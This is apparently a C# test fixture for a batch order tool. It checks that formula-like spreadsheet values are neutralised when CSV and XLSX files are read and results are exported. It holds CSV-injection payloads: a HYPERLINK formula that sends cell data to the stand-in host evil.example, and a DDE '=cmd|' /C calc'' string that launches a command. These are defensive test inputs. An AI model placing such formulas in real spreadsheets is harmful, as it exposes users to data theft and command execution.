using System.IO.Compression;
using System.Text.RegularExpressions;
using BatchOrders.Journal;
using BatchOrders.Planning;
using BatchOrders.Reading;
using BatchOrders.Tests.Support;
using Microsoft.Extensions.Time.Testing;

namespace BatchOrders.Tests.Results;

/// <summary>
/// A batch taken through the real journal API: an input file with an unknown column and formula-like values,
/// one order succeeded, one failed and one still pending, on a fake clock.
/// </summary>
public sealed partial class ResultsFixture : IDisposable
{
    public const string ThirdCustomer = "0f1e2d3c-4b5a-4978-8695-a4b3c2d1e0f9";
    public const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    public static readonly string[] Headers = ["CustomerId", "OfferId", "Quantity", "BillingCycle", "FriendlyName", "Cost Centre"];
    public static readonly DateTimeOffset Start = new(2025, 3, 1, 9, 0, 0, TimeSpan.Zero);

    public ResultsFixture(bool workbook = false)
    {
        Clock = new FakeTimeProvider(Start);
        InputPath = workbook ? WriteXlsx() : Folder.WriteText("orders.csv", Rows.Csv(
            string.Join(",", Headers),
            $"{Rows.Customer},{Rows.E3},5,Monthly,\"{Formula.Replace("\"", "\"\"", StringComparison.Ordinal)}\",CC-1",
            $"{Rows.Customer},{Rows.E1},2,Monthly,\"Sales, \"\"North\"\"\",-12",
            $"{Rows.OtherCustomer},{Rows.E3},3,Annual,@SUM(1),+44 20 7946 0000",
            $"{ThirdCustomer},{Rows.E1},1,Monthly,Pending one,"));
        Read = SpreadsheetReader.Read(InputPath);
        Assert.True(Read.IsValid, string.Join("; ", Read.Errors.Select(e => e.Message)) + Read.Problem?.Message);
        Plan = OrderPlanner.Plan(InputPath, Read.Rows);
        Assert.Empty(Plan.Errors);

        var (journal, problem) = BatchJournal.Open(BatchJournal.DefaultPath(InputPath), Clock);
        Assert.Null(problem);
        Journal = journal!;
        var sha = InputHash.Compute(InputPath);
        Assert.Null(Journal.Bind(InputPath, sha, Read.Sheet, Read.Headers, Target.Sandbox));
        Journal.Synchronize(Read, Plan, sha, retryFailed: false);

        var run = Journal.StartRun(sha, Target.Sandbox);
        Clock.Advance(TimeSpan.FromSeconds(10));
        var succeeded = Plan.Orders[0].OrderKey;
        var sending = Journal.Apply(succeeded, new OrderChange.Send());
        Journal.RecordAttempt(succeeded, new AttemptNote(sending.RequestId, 201, "succeeded", null, null));
        Journal.Apply(succeeded, new OrderChange.Succeed("Cs_order1", 201, new Dictionary<int, string> { [0] = Rows.Subscription, [1] = "sub-2" }));
        Clock.Advance(TimeSpan.FromSeconds(20));
        var failed = Plan.Orders[1].OrderKey;
        var second = Journal.Apply(failed, new OrderChange.Send());
        Journal.RecordAttempt(failed, new AttemptNote(second.RequestId, 400, "failed", "2002", "=cmd|' /C calc'!A0 is not a valid offer."));
        Journal.Apply(failed, new OrderChange.Fail(400, "2002", "=cmd|' /C calc'!A0 is not a valid offer."));
        Clock.Advance(TimeSpan.FromSeconds(30));
        Journal.EndRun(run, 1);
        SubmittedAt = Start.AddSeconds(10);
    }

    public TempFolder Folder { get; } = new();

    public FakeTimeProvider Clock { get; }

    public string InputPath { get; }

    public ReadResult Read { get; }

    public OrderPlan Plan { get; }

    public BatchJournal Journal { get; }

    public DateTimeOffset SubmittedAt { get; }

    /// <summary>The XML of every worksheet of a workbook file.</summary>
    public static IReadOnlyList<string> SheetXml(string path)
    {
        using var zip = ZipFile.OpenRead(path);
        return zip.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/sheet", StringComparison.Ordinal))
            .Select(e =>
            {
                using var reader = new StreamReader(e.Open());
                return reader.ReadToEnd();
            })
            .ToList();
    }

    /// <summary>Whether the XML has a formula element (&lt;f&gt; in any namespace prefix).</summary>
    public static bool HasFormulaElement(string xml) => FormulaElement().IsMatch(xml);

    public void Dispose()
    {
        Journal.Dispose();
        Folder.Dispose();
    }

    [GeneratedRegex(@"<(\w+:)?f[\s/>]")]
    private static partial Regex FormulaElement();

    private string WriteXlsx()
    {
        string?[][] rows =
        [
            ["Title row: March orders"],
            [.. Headers],
            [Rows.Customer, Rows.E3, "5", "Monthly", Formula, "CC-1"],
            [Rows.Customer, Rows.E1, "2", "Monthly", "Sales, \"North\"", "-12"],
            [Rows.OtherCustomer, Rows.E3, "3", "Annual", "@SUM(1)", "+44 20 7946 0000"],
            [ThirdCustomer, Rows.E1, "1", "Monthly", "Pending one", null],
        ];
        return Folder.WriteBytes("orders.xlsx", new RawXlsx().Sheet("March", rows).ToBytes());
    }
}
